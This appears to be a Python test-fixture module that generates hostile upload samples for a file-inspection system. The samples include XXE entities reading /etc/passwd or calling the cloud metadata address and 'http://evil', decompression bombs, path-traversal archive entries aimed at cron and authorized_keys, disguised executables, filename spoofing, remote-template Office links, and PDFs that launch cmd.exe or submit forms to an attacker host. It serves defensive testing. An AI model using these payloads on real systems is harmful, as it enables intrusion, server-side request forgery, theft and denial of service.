"""The classes of hostile files of R15, made by rule: every weapon in every carrier it fits. Added to those of `hostile.py`."""

import gzip
import io
import itertools
import struct
import tarfile
import zipfile
import zlib

from PIL import Image

from shijian.evidence.inspection import EICAR, ENTRIES, RUNS, XML_READ
from shijian.evidence.testing import film, jpeg, pdf, tone

from .hostile import LAUGHS, SCRIPT, SVG, XXE, office, png_claiming, zipped

PHOTO = jpeg(size=(160, 120))


def picture(kind, **options):
    buffer = io.BytesIO()
    Image.new("RGB", (80, 60), "#c87850").save(buffer, kind, **options)
    return buffer.getvalue()


PNG, WEBP = picture("PNG"), picture("WEBP")
TARBALL = io.BytesIO()
with tarfile.open(fileobj=TARBALL, mode="w:gz") as _tar:
    _tar.addfile(tarfile.TarInfo("../../etc/cron.d/x"))


def refused():
    """name of the case: (file name, medium, content), as in `hostile.REFUSED`."""
    return {
        **entities(), **archives(), **slips(), **names(), **disguises(), **cut(), **active_office(), **floods(), **signatures(),
    }  # fmt: skip


def tamed():
    """name of the case: (file name, medium, content, words of the warning), as in `hostile.TAMED`."""
    embedded = office({"xl/embeddings/oleObject1.bin": b"x"}, "xl/workbook.xml")
    return {**polyglots(), **active_pdf(), "xlsx with an embedded object": ("表.xlsx", "document", embedded, "内嵌")}


def entities():
    declared = {
        "file": XXE,
        "address": XXE.replace(b"file:///etc/passwd", b"http://169.254.169.254/"),
        "parameter": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><x/>',
        "laughs": LAUGHS,
        "small letters": XXE.replace(b"DOCTYPE", b"doctype"),
        "utf-16 without a mark": XXE.decode().encode("utf-16-le"),
        "behind a long remark": b"<?xml version='1.0'?><!--" + b" " * (XML_READ + 10) + b"-->" + XXE[21:],
    }
    carriers = {
        ("合同.docx", "word/document.xml"): (
            "word/document.xml", "word/styles.xml", "_rels/.rels", "docProps/core.XML", "customXml/item1.xml", "word/media/image1.svg",
            "word/drawings/vmlDrawing1.vml",
        ),
        ("表.xlsx", "xl/workbook.xml"): ("xl/sharedStrings.xml",),
        ("稿.pptx", "ppt/presentation.xml"): ("ppt/slides/slide1.xml",),
        ("证明.ofd", "OFD.xml"): ("Doc_0/Document.xml",),
    }  # fmt: skip
    return {
        f"entity ({how}) in {part} of {name}": (name, "document", office({part: xml}, main))
        for (name, main), parts in carriers.items()
        for part, (how, xml) in itertools.product(parts, declared.items())
    }


def archives():
    nested = zipped({"a.xml": bytes(8 * 2**20)})
    for _ in range(4):
        nested = zipped({f"{number}.zip": nested for number in range(10)})
    many = zipped({f"word/{number}.xml": b"" for number in range(ENTRIES + 1)}, method=zipfile.ZIP_STORED)
    locked = bytearray(office({}))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := locked.find(mark, at + 1)) >= 0:
            locked[at + place] |= 1
    lying = bytearray(office({"word/x.xml": bytes(2**20)}))
    at = lying.rindex(b"PK\x01\x02")
    lying[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    bomb = {"word/media/x.xml": bytes(80 * 2**20)}
    return {
        "bomb of archives in archives": ("资料.docx", "document", nested),
        "bomb, deflate": ("合同.docx", "document", office(bomb)),
        "bomb, bzip2": (
            "合同.docx",
            "document",
            zipped({"word/document.xml": b"<w/>", **bomb}, method=zipfile.ZIP_BZIP2),
        ),
        "bomb, lzma": (
            "合同.docx",
            "document",
            zipped({"word/document.xml": b"<w/>", **bomb}, method=zipfile.ZIP_LZMA),
        ),
        "more entries than any paper": ("合同.docx", "document", many),
        "entries under a password": ("合同.docx", "document", bytes(locked)),
        "a directory that lies": ("合同.docx", "document", bytes(lying)),
        "gzip as photo": ("照片.jpg", "photo", gzip.compress(PHOTO)),
        "svgz": ("图.svgz", "photo", gzip.compress(SVG)),
        "tar climbing out": ("资料.tar.gz", "document", TARBALL.getvalue()),
        "archive in a paper": ("资料.pdf", "document", zipped({"a.zip": zipped({"b.exe": b"MZ"})})),
    }


def slips():
    paths = [
        "../x", "word/../../x", "..\\x", "word\\..\\..\\x", "/x", "\\x", "//server/share/x", "\\\\server\\share\\x", "C:\\x", "c:x",
        "word/media/../../../../root/.ssh/authorized_keys", "../" * 40 + "x",
    ]  # fmt: skip
    made = {f"path {path[:30]} in a docx": ("合同.docx", "document", office({path: b"x"})) for path in paths}
    made |= {
        f"link in a {name}": (name, "document", zipped({main: b"<x/>"}, link="media/passwd"))
        for name, main in (("表.xlsx", "xl/workbook.xml"), ("稿.pptx", "ppt/presentation.xml"), ("证明.ofd", "OFD.xml"))
    }
    return made


def names():
    made = {f"photo that also ends in .{suffix}": (f"照片.{suffix}.jpg", "photo", PHOTO) for suffix in sorted(RUNS)}
    made |= {
        f"photo hidden as .{suffix}": (f"照片.jpg.{suffix.upper()}", "photo", PHOTO) for suffix in sorted(RUNS)[::3]
    }
    made |= {
        f"name with U+{ord(mark):04X}": (f"照片{mark}gpj.jpg", "photo", PHOTO)
        for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u2060\ufeff"
    }
    made |= {
        "no suffix": ("照片", "photo", PHOTO),
        "a suffix of nothing": ("照片.jpg.", "photo", PHOTO),
        "a wide full stop": ("照片.jpg．exe", "photo", PHOTO),
        "a zero byte in the name": ("照片.exe\0.jpg", "photo", PHOTO),
        "spaces behind the true suffix": ("照片.exe     .jpg", "photo", PHOTO),
        "a stream of a file": ("照片.jpg:run.exe", "photo", PHOTO),
    }
    return made


def disguises():
    contents = {
        "a Windows program": b"MZ" + bytes(200), "a Linux program": b"\x7fELF" + bytes(200), "a Mac program": b"\xcf\xfa\xed\xfe" + bytes(200),
        "a Java class": b"\xca\xfe\xba\xbe" + bytes(200), "a shell script": b"#!/bin/sh\nid\n", "a page": b"<!DOCTYPE html>" + SCRIPT,
        "a page in UTF-16": (b"<html>" + SCRIPT).decode().encode("utf-16"), "a drawing": SVG, "xml": XXE, "a zip": zipped({"a.txt": b"x"}),
        "a rar": b"Rar!\x1a\x07\x01\0" + bytes(100), "a 7z": b"7z\xbc\xaf\x27\x1c" + bytes(100), "noise": bytes(range(256)) * 4,
        "the EICAR test": EICAR + b"$H+H*", "a shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(100), "a Flash film": b"FWS\x09" + bytes(100),
    }  # fmt: skip
    pretended = {
        "照片.jpg": "photo",
        "图.png": "photo",
        "录像.mp4": "video",
        "录音.mp3": "audio",
        "合同.pdf": "document",
    }
    return {
        f"{what} named {name}": (name, medium, content)
        for (what, content), (name, medium) in itertools.product(contents.items(), pretended.items())
    }


def cut():
    whole = {"照片.jpg": PHOTO, "图.png": PNG, "图.webp": WEBP, "录像.mp4": film()}
    made = {
        f"{name} cut after {kept} bytes": (name, "video" if "mp4" in name else "photo", content[:kept])
        for name, content in whole.items()
        for kept in (12, 30)
    }
    return made | {
        f"{name} cut after {part:.0%}": (name, "document", content[: int(len(content) * part)])
        for name, content in {"合同.docx": office({}), "表.xlsx": office({}, "xl/workbook.xml")}.items()
        for part in (0.3, 0.6, 0.9)
    }


def active_office():
    link = b'<Relationships><Relationship Id="r1" %s/></Relationships>'
    away = {
        "template": b'Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"',
        "template in single quotes": b"Type='http://x/attachedTemplate' Target='http://evil/x.dotm' TargetMode='External'",
        "template, the mode first": b'TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil/x.dotm"',
        "object": b'Type="http://x/oleObject" Target="http://evil/x" TargetMode="External"',
        "frame": b'Type="http://x/frame" Target="http://evil/x" TargetMode="External"',
        "part of a paper": b'Type="http://x/subDocument" Target="http://evil/x" TargetMode="External"',
    }
    made = {
        f"docx loading a {what}": ("合同.docx", "document", office({"word/_rels/document.xml.rels": link % attributes}))
        for what, attributes in away.items()
    }
    parts = {
        "macro sheet": "xl/macrosheets/sheet1.xml", "macro": "xl/vbaProject.bin", "control": "xl/activeX/activeX1.bin",
    }  # fmt: skip
    made |= {
        f"xlsx with a {what}": ("表.xlsx", "document", office({part: b"x"}, "xl/workbook.xml"))
        for what, part in parts.items()
    }
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    storages = ("_VBA_PROJECT", "Macros", "\u4840\u3b3f")  # the last: the first table of an installer (MSI)
    made |= {
        f"old office file with {name!a}": ("合同.doc", "document", ole + name.encode("utf-16-le") + bytes(400))
        for name in storages
    }
    return made


def floods():
    return {
        "flood of pixels in a webp": ("图.webp", "photo", b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + b"\xff\xff\xff" * 2),
        "flood of pixels in a png, one row": ("图.png", "photo", png_claiming(2**31 - 1, 1)),
        "flood of pixels in a png, one column": ("图.png", "photo", png_claiming(1, 60_000_000)),
        "flood in a progressive photo": ("照片.jpg", "photo", progressive(30_000, 8_000)),
        "a compressed profile without end": ("图.png", "photo", png_with(b"iCCP", b"p\0\0" + zlib.compress(bytes(90 * 2**20)))),
        "a compressed text without end": ("图.png", "photo", png_with(b"iTXt", b"k\0\1\0\0\0" + zlib.compress(bytes(90 * 2**20)))),
    }  # fmt: skip


def progressive(width, height):
    """The head of a photo that asks its reader to hold all coefficients at once."""
    data = bytearray(picture("JPEG", progressive=True))
    frame = data.index(b"\xff\xc2")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_with(kind, content):
    chunk = struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
    return PNG[:33] + chunk + PNG[33:]


def signatures():
    """The EICAR test in carriers other than a plain text."""
    return {
        "the EICAR test in a docx": ("合同.docx", "document", office({"word/x.txt": EICAR + b"$H+H*"})),
        "the EICAR test behind a photo": ("照片.jpg", "photo", PHOTO + EICAR + b"$H+H*"),
        "the EICAR test in a pdf": ("合同.pdf", "document", pdf(b"/X (" + EICAR + b")")),
    }


def polyglots():
    archive = zipped({"a.exe": b"MZ"})
    carriers = {"照片.jpg": PHOTO, "图.png": PNG, "图.webp": WEBP}
    riders = {
        "一个压缩包": (archive, "压缩包"),
        "一个网页": (b"<html>" + SCRIPT, "网页代码"),
        "一段程序": (b"<?php phpinfo();", "网页代码"),
    }
    made = {
        f"{name} with {what} behind": (name, "photo", content + rider, warning)
        for (name, content), (what, (rider, warning)) in itertools.product(carriers.items(), riders.items())
    }
    return made | {
        "sound with a page behind": ("录音.wav", "audio", tone(0.1) + b"<html>" + SCRIPT, "网页代码"),
        "sound with a zip behind": ("录音.wav", "audio", tone(0.1) + archive, "压缩包"),
        "photo that is a pdf too": ("照片.jpg", "photo", PHOTO[:2] + b"\xff\xfe\x00\x0a%PDF-1.4" + PHOTO[2:], "PDF"),
        "photo with its place": ("照片.jpg", "photo", jpeg(gps=True) + b"<script", "网页代码"),
    }


def active_pdf():
    packed = zlib.compress(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>")
    hidden = b"/X << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (
        len(packed),
        packed,
    )
    marks = {
        "an action on opening": (b"/AA << /O << /S /JavaScript /JS (x) >> >>", "脚本"),
        "a script with escapes": (b"/OpenAction << /#53 /J#61#76#61Script >>", "脚本"),
        "a script in a packed object": (hidden, "脚本"),
        "a program": (b"/OpenAction << /S /L#61unch /F (cmd.exe) >>", "外部程序"),
        "an embedded file": (b"/AF [9 0 R] /EmbeddedFile 9 0 R", "内嵌"),
        "a form that runs": (b"/AcroForm << /XFA 9 0 R >>", "动态内容"),
        "a film player": (b"/Annots [<< /Subtype /RichMedia >>]", "动态内容"),
        "a form that sends": (b"/OpenAction << /S /SubmitForm /F (http://evil/) >>", "访问外部"),
        "a jump to another file": (b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) >>", "访问外部"),
        "a jump to an embedded file": (b"/OpenAction << /S /GoToE >>", "访问外部"),
        "a lock": (b"/Encrypt 9 0 R", "加密"),
    }
    return {
        f"pdf with {what}": ("合同.pdf", "document", pdf(inside), warning) for what, (inside, warning) in marks.items()
    }
